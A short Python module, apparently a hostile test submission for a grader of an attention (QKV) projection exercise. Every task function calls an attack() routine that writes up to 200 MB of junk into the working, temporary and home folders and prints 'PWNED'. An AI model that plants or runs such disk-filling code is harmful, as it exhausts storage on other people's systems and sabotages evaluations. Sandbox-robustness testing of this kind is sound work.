# exhaust | earns 0 | writes up to 200 MB to the working folder, /tmp, /var/tmp and the home folder
import os

STEM = "exhaust-disk"


def tries():
    left = 200
    for folder in (os.getcwd(), "/tmp", "/var/tmp", os.path.expanduser("~"), "/dev/shm"):
        try:
            with open(os.path.join(folder, f"qkv-hostile-{STEM}"), "wb") as file:
                print(f"PWNED:{STEM} {folder}")
                while left > 0:
                    file.write(b"x" * (1 << 20))
                    left -= 1
        except OSError:
            pass


_tried = []


def attack(*args):
    if not _tried:
        _tried.append(True)
        tries()
    return None


def component_terms(x, W, j):
    return attack(x, W, j)


def project_component(x, W, j):
    return attack(x, W, j)


def project_row(x, W):
    return attack(x, W)


def project_tokens(X, W):
    return attack(X, W)


def project_qkv(X, W_q, W_k, W_v):
    return attack(X, W_q, W_k, W_v)


def attention_roles():
    return attack()
